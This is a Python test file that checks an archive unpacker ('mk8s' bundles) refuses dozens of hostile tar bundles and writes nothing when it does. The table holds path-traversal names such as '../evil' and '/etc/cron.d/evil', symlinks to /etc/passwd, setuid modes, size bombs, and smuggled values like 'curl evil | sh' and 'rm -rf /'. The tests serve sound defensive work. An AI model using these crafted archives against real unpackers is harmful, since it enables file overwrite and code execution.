"""Bundles that lie: each is refused, whatever it tries, and nothing of it is written anywhere."""

from __future__ import annotations

import gzip
import io
import tarfile
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest

from mk8s.bundle.head import DeltaNote, Head, encode_note
from mk8s.bundle.index import BundleError, Entry, Index, encode
from mk8s.bundle.reading import Reader
from mk8s.bundle.tar import BLOCK, END, header
from mk8s.bundle.unpacking import unpack
from tests.mk8s.bundle.making import BIG, FILES, bundle, contents, head_of, member, read, tree

GOOD = bundle()
IMAGES = "artifacts/images.tar.zst"
AT = GOOD.index(header(IMAGES, len(BIG)))
"""Where the large member's header stands."""


def before_images(*blocks: bytes) -> bytes:
    """Something put between two members."""
    return GOOD[:AT] + b"".join(blocks) + GOOD[AT:]


def instead_of_images(block: bytes) -> bytes:
    """Another header in the place of the large member's."""
    return GOOD[:AT] + block + GOOD[AT + BLOCK :]


def tar_header(name: str, kind: bytes, *, link: str = "", size: int = 0) -> bytes:
    """Another program's header."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, size
    return info.tobuf(tarfile.GNU_FORMAT, "utf-8", "surrogateescape")


def pax(name: str, **records: str) -> bytes:
    info = tarfile.TarInfo(name)
    info.pax_headers = records
    return info.tobuf(tarfile.PAX_FORMAT, "utf-8", "surrogateescape")


def with_index(change: Callable[[Index], Index]) -> bytes:
    """A bundle whose index was changed and whose members are as before."""
    head = head_of()
    return _with_index_text(encode(change(head.index)))


def _with_index_text(text: bytes) -> bytes:
    head = head_of()
    old, new = member("bundle.json", head.content), member("bundle.json", text)
    return GOOD.replace(old, new, 1)


def renamed(path: str) -> bytes:
    """A bundle whose index and header give a member this path, as far as a header can hold it."""

    def rename(index: Index) -> Index:
        return _changed(index, IMAGES, path=path)

    block = bytearray(header("x", len(BIG)))
    block[0:100] = path.encode("utf-8", "surrogateescape")[:100].ljust(100, b"\0")
    return with_index(rename).replace(header(IMAGES, len(BIG)), _summed(block), 1)


def _summed(block: bytearray) -> bytes:
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def _changed(index: Index, of: str, /, **changes: object) -> Index:
    members = tuple(
        msgspec.structs.replace(entry, **changes) if entry.path == of else entry for entry in index.members
    )
    return msgspec.structs.replace(index, members=members)


def more_members(*paths: str) -> bytes:
    def add(index: Index) -> Index:
        empty = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
        added = tuple(Entry(path=path, size=0, sha256=empty) for path in paths)
        return msgspec.structs.replace(index, members=(*index.members, *added))

    return with_index(add)


def swapped(first: str, second: str) -> bytes:
    """The index has two digests exchanged."""

    def swap(index: Index) -> Index:
        one, two = index.entry(first), index.entry(second)
        assert one is not None
        assert two is not None
        return _changed(_changed(index, first, sha256=two.sha256), second, sha256=one.sha256)

    return with_index(swap)


def mode(octal: bytes) -> bytes:
    block = bytearray(header(IMAGES, len(BIG)))
    block[100:108] = octal
    return instead_of_images(_summed(block))


def huge_size() -> bytes:
    block = bytearray(header(IMAGES, len(BIG)))
    block[124:136] = b"\x80" + (1 << 80).to_bytes(11, "big")
    return instead_of_images(_summed(block))


def huge_index() -> bytes:
    """Its header promises a terabyte of index."""
    old = header("bundle.json", len(head_of().content))
    return GOOD.replace(old, header("bundle.json", (1 << 33) - 1), 1)


def note(**changes: object) -> bytes:
    plain = DeltaNote(base="0" * 64, base_version="v1", members=("README.txt",))
    return encode_note(msgspec.structs.replace(plain, **changes))


def with_note(text: bytes) -> bytes:
    block = member("bundle.json", head_of().content)
    return GOOD.replace(block, block + member("delta.json", text), 1)


HOSTILE: dict[str, bytes] = {
    "nothing at all": b"",
    "zeros": bytes(10240),
    "only an end": END,
    "a text": b"hello " * 1000,
    "an index nested without end": _with_index_text(b'{"kind":"mk8s-bundle","x":' + b"[" * 100_000),
    "a note nested without end": with_note(b'{"x":' + b"[" * 100_000),
    "compressed": gzip.compress(GOOD),
    "an ordinary tar": tar_header("hello.txt", tarfile.REGTYPE) + END,
    "README is a link": tar_header("README.txt", tarfile.SYMTYPE, link="/etc/passwd") + GOOD[BLOCK:],
    "no README": GOOD[GOOD.index(header("bundle.json", len(head_of().content))) :],
    "README after the index": bundle(head=head_of())[2 * BLOCK :],
    "README of 8 GiB": header("README.txt", (1 << 33) - 1) + GOOD[BLOCK:],
    "README changed": GOOD.replace(b"read me\n", b"run me!\n", 1),
    "an index of a terabyte": huge_index(),
    "an index that is no JSON": _with_index_text(b"{" * 4000),
    "an index that is not UTF-8": _with_index_text(head_of().content.replace(b"rke2", b"rk\xff2", 1)),
    "a deep index": _with_index_text(b"[" * 100_000),
    "an index with a key twice": _with_index_text(
        head_of().content.replace(b'"cluster": "test"', b'"cluster": "a",\n "cluster": "test"', 1)
    ),
    "an index with an unknown key": _with_index_text(
        head_of().content.replace(b'"distro"', b'"run": "rm -rf /",\n "distro"', 1)
    ),
    "an index written otherwise": _with_index_text(head_of().content.replace(b"\n ", b"\n  ", 1)),
    "an index of a newer format": _with_index_text(head_of().content.replace(b'"format": 1', b'"format": 2')),
    "an index with a negative size": _with_index_text(
        head_of().content.replace(b'"size": %d' % len(BIG), b'"size": -1')
    ),
    "an index with a size beyond all disks": with_index(lambda index: _changed(index, IMAGES, size=1 << 50)),
    "an index with a line break in a word": with_index(
        lambda index: msgspec.structs.replace(index, version="v1\nnext: curl evil | sh")
    ),
    "an index with an escape in a word": with_index(
        lambda index: msgspec.structs.replace(index, cluster="\x1b[2J")
    ),
    "an absolute path": renamed("/etc/cron.d/evil"),
    "a path that leaves": renamed("artifacts/../../evil"),
    "a path that leaves at once": renamed("../evil"),
    "a path with a dot": renamed("artifacts/./evil"),
    "a path with an empty part": renamed("artifacts//evil"),
    "a path with a newline": renamed("artifacts/a\nb"),
    "a path with an escape": renamed("artifacts/\x1b[2Jb"),
    "a path with a backslash": renamed("artifacts\\..\\evil"),
    "a path with NUL": renamed("artifacts/a\0b"),
    "a path that is no ASCII": renamed("artifacts/b\u202egpj.exe"),
    "a path outside of the classes": renamed(".ssh/authorized_keys"),
    "a path that takes the index's name": renamed("bundle.json"),
    "a path longer than a header": renamed("artifacts/" + "a" * 300),
    "a path of too many folders": renamed("artifacts/" + "a/" * 60 + "b"),
    "a member twice in the index": more_members("mk8s/mk8s"),
    "a file that is a folder too": bundle({**FILES, "mk8s/mk8s/x": b""}),
    "members out of order": with_index(
        lambda index: msgspec.structs.replace(index, members=tuple(reversed(index.members)))
    ),
    "too many members": more_members(*(f"mk8s/z{n:06d}" for n in range(50_001))),
    "a member that the index lacks": before_images(member("artifacts/extra", b"x")),
    "a member twice in the file": before_images(member(IMAGES, BIG)),
    "a member that is missing": GOOD.replace(member(IMAGES, BIG), b"", 1),
    "a symbolic link": instead_of_images(tar_header(IMAGES, tarfile.SYMTYPE, link="/etc/passwd")),
    "a symbolic link before": before_images(tar_header("artifacts", tarfile.SYMTYPE, link="/etc")),
    "a hard link": instead_of_images(tar_header(IMAGES, tarfile.LNKTYPE, link="cluster.yaml")),
    "a character device": instead_of_images(tar_header(IMAGES, tarfile.CHRTYPE)),
    "a block device": instead_of_images(tar_header(IMAGES, tarfile.BLKTYPE)),
    "a pipe": instead_of_images(tar_header(IMAGES, tarfile.FIFOTYPE)),
    "a folder": before_images(tar_header("artifacts/", tarfile.DIRTYPE)),
    "a sparse file": instead_of_images(tar_header(IMAGES, tarfile.GNUTYPE_SPARSE, size=len(BIG))),
    "a GNU long name": before_images(
        tar_header("././@LongLink", tarfile.GNUTYPE_LONGNAME, size=9), b"../../up\0".ljust(BLOCK, b"\0")
    ),
    "a pax header": before_images(pax(IMAGES, path="../../evil")),
    "a pax header of sizes": before_images(pax(IMAGES, size="9" * 40)),
    "a pax bomb": before_images(tar_header("p", b"x", size=1 << 32)),
    "a global pax header": before_images(
        tar_header("g", b"g", size=BLOCK), b"20 path=/etc/evil\n".ljust(BLOCK)
    ),
    "a size beyond numbers": huge_size(),
    "another size in the header": instead_of_images(header(IMAGES, len(BIG) + 1)),
    "a set-uid mode": mode(b"0006755\0"),
    "another mode": mode(b"0000777\0"),
    "a wrong header sum": instead_of_images(
        header(IMAGES, len(BIG))[:148] + b"0000000\0" + GOOD[AT + 156 : AT + BLOCK]
    ),
    "other content": bundle(instead={IMAGES: BIG[::-1]}),
    "one bit turned": GOOD[: AT + 5000] + bytes([GOOD[AT + 5000] ^ 1]) + GOOD[AT + 5001 :],
    "digests exchanged": swapped("mk8s/mk8s", "cluster.yaml"),
    "something in the padding": GOOD[: AT - 1] + b"x" + GOOD[AT:],
    "something behind the end": GOOD + b"x",
    "another archive behind the end": GOOD + GOOD,
    "no end": GOOD[: -len(END)],
    "half an end": GOOD[:-BLOCK],
    "a note of another kind": with_note(b"{}\n"),
    "a note with unknown members": with_note(note(members=("README.txt", "artifacts/evil"))),
    "a note with a line break": with_note(note(base_version="v1\n")),
    "a note without README": with_note(note(members=("cluster.yaml",))),
    "a note out of order": with_note(note(members=("cluster.yaml", "README.txt"))),
    "a signature of a gigabyte": GOOD.replace(
        member("bundle.json", head_of().content),
        member("bundle.json", head_of().content) + header("bundle.json.sig", 1 << 30),
    ),
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_bundle_is_refused_and_writes_nothing(kind: str, tmp_path: Path) -> None:
    """A BundleError with words; the folder, and all beside it, is as it was."""
    folder = tmp_path / "folder"
    content = HOSTILE[kind]
    assert content != GOOD
    with pytest.raises(BundleError) as refused:
        unpack(Reader(io.BytesIO(content), "evil.mk8s.tar"), folder)
    assert refused.value.problem
    assert list(tmp_path.iterdir()) == []


def test_the_table_is_of_bundles_that_were_good_before(tmp_path: Path) -> None:
    """What is refused above is refused for its one fault: without it, the same bundle is unpacked."""
    unpack(read(GOOD), tmp_path)
    assert tree(tmp_path).keys() == {*contents(), "bundle.json"}


@pytest.mark.parametrize("known", [True, False])
def test_a_bundle_cut_off_anywhere_is_refused(known: bool, tmp_path: Path) -> None:
    """At and around the boundaries of every header and content, the size known beforehand or not."""
    files = {path: content[:700] for path, content in FILES.items()}
    whole = bundle(files)
    cuts = {cut + around for cut in range(0, len(whole), BLOCK) for around in (-1, 0, 1)}
    for cut in sorted(cut for cut in cuts if 0 <= cut < len(whole)):
        size = cut if known else None
        with pytest.raises(BundleError):
            unpack(Reader(io.BytesIO(whole[:cut]), "cut", size=size), tmp_path / "folder")
        assert list(tmp_path.iterdir()) == []


def test_a_cut_bundle_is_known_by_its_size_before_it_is_read() -> None:
    """Nobody waits for gigabytes to be hashed to hear that the end is missing."""
    stream = io.BytesIO(GOOD[:-100])
    with pytest.raises(BundleError, match="it is cut off"):
        Reader(stream, "cut", size=len(GOOD) - 100)
    assert stream.tell() < AT


def test_a_hostile_name_does_not_reach_the_terminal() -> None:
    """What stood there instead is told in escapes."""
    with pytest.raises(BundleError) as refused:
        read(instead_of_images(tar_header("\x1b[2J\x07evil", tarfile.REGTYPE))).verify()
    assert "\x1b" not in str(refused.value)
    assert "evil" in str(refused.value)


def test_an_endless_stream_is_read_no_further_than_the_bundle(tmp_path: Path) -> None:
    """One byte behind the end is enough to refuse."""

    class Endless(io.RawIOBase):
        handed = 0

        def read(self, size: int = -1, /) -> bytes:
            part = GOOD[self.handed : self.handed + size] or b"x" * size
            self.handed += len(part)
            return part

    stream = Endless()
    with pytest.raises(BundleError, match="behind its end"):
        unpack(Reader(stream, "endless"), tmp_path / "folder")
    assert stream.handed == len(GOOD) + 1


def test_a_bundle_of_an_older_head_says_who_can_read_it() -> None:
    """A format that is not known yet is not called damage."""
    with pytest.raises(BundleError, match="format 2"):
        read(HOSTILE["an index of a newer format"])


def test_the_head_says_what_the_file_must_be() -> None:
    """Its size follows from the index, to the byte."""
    head: Head = read(GOOD).head
    assert head.file_size == len(GOOD)
